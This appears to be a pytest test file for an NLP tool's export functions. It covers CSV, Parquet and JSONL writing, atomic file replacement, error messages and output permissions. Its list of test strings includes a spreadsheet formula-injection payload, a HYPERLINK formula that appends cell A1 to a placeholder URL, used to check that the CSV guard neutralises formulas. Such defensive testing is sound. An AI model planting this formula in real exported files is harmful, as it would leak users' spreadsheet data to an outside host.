import codecs
import csv
import json
import os
import stat

import pandas as pd
import pytest

from tr_nlp.csvsafe import FORMULA_STARTS
from tr_nlp.errors import OutputError
from tr_nlp.export import atomic_path, write_json, write_table
from tr_nlp.ingest.table import load_frame


def test_write_table_formats(tmp_path):
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "é"]})
    for suffix in (".csv", ".parquet", ".jsonl"):
        path = write_table(frame, tmp_path / f"t{suffix}")
        assert path.exists()
    assert pd.read_parquet(tmp_path / "t.parquet").equals(frame)
    with pytest.raises(OutputError):
        write_table(frame, tmp_path / "t.xlsx")


# what a spreadsheet would run as a formula, and text that only looks like tr_nlp's guard
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1, "more")', "+44 20 7946 0000", "- yeah, well", "@SUM(1+1)",
           "\tindented", "'cause I was", "'=already quoted", "''", "'", "", "plain", "-3"]


def test_csv_text_never_starts_a_formula_and_reads_back_exactly(tmp_path):
    frame = pd.DataFrame({"text": HOSTILE, "start": range(-6, 6), "p": [-0.5] * 12})
    path = write_table(frame, tmp_path / "t.csv")
    assert path.read_bytes().startswith(codecs.BOM_UTF8)  # so that Excel reads it as UTF-8
    with open(path, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["text"][0] for r in rows if r["text"].startswith(FORMULA_STARTS)] == []
    assert rows[0]["text"] == "'" + HOSTILE[0] and rows[5]["text"] == "'cause I was"  # an elision stays
    assert (rows[0]["start"], rows[0]["p"]) == ("-6", "-0.5")  # numbers are not text: no guard
    assert load_frame(path)[0]["text"].tolist() == HOSTILE
    assert pd.read_parquet(write_table(frame, tmp_path / "t.parquet"))["text"].tolist() == HOSTILE  # exact
    # opened in a spreadsheet that keeps the apostrophes, and saved as a workbook
    pd.read_csv(path, dtype=str, keep_default_na=False).to_excel(tmp_path / "t.xlsx", index=False)
    assert load_frame(tmp_path / "t.xlsx")[0]["text"].tolist() == HOSTILE
    # two columns of one name are each guarded, by position (the guard once looked cells up by name)
    from tr_nlp.csvsafe import guard_frame

    twice = guard_frame(pd.DataFrame([["=1+1", 1, "so"], ["so", 2, "@SUM(A1)"]], columns=["t", "n", "t"]))
    assert twice.to_numpy().tolist() == [["'=1+1", 1, "so"], ["so", 2, "'@SUM(A1)"]]


def test_atomic_write_leaves_old_file_on_failure(tmp_path):
    target = tmp_path / "out.json"
    write_json({"v": 1}, target)
    with pytest.raises(RuntimeError):
        with atomic_path(target) as tmp:
            tmp.write_text("half")
            raise RuntimeError("killed")
    assert target.read_text().strip().endswith("}")
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_unwritable_output_is_a_clear_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(OutputError) as info:
        write_json({}, blocker / "sub" / "out.json")
    # the file in the way is named, not "File exists" or "Not a directory" from the system
    assert info.value.code == "E173" and str(info.value).startswith(f"{blocker}: [E173] is a file")


@pytest.mark.skipif(os.name != "posix", reason="POSIX permission bits")
def test_outputs_get_the_permissions_a_plain_open_would_give(tmp_path, monkeypatch):
    """Not the temp file's owner-only mode: a team sharing the output folder can read them."""
    from tr_nlp.export import tables

    frame = pd.DataFrame({"a": [1]})
    monkeypatch.setattr(tables, "_UMASK", 0o027)
    new = write_table(frame, tmp_path / "new.csv")
    assert stat.S_IMODE(new.stat().st_mode) == 0o640
    kept = tmp_path / "kept.json"
    kept.write_text("{}")
    kept.chmod(0o604)
    write_json({"b": 2}, kept)  # replacing a file keeps its mode, as open(path, "w") would
    assert stat.S_IMODE(kept.stat().st_mode) == 0o604 and json.loads(kept.read_text()) == {"b": 2}
    with atomic_path(tmp_path / "secret.csv", private=True) as tmp:
        tmp.write_text("x")
    assert stat.S_IMODE((tmp_path / "secret.csv").stat().st_mode) == 0o600
    with atomic_path(tmp_path / "weights.bin") as tmp:  # a writer that puts a file of its own in place
        tmp.unlink()
        os.close(os.open(tmp, os.O_CREAT | os.O_WRONLY, 0o600))  # as safetensors' save_file does
    assert stat.S_IMODE((tmp_path / "weights.bin").stat().st_mode) == 0o640
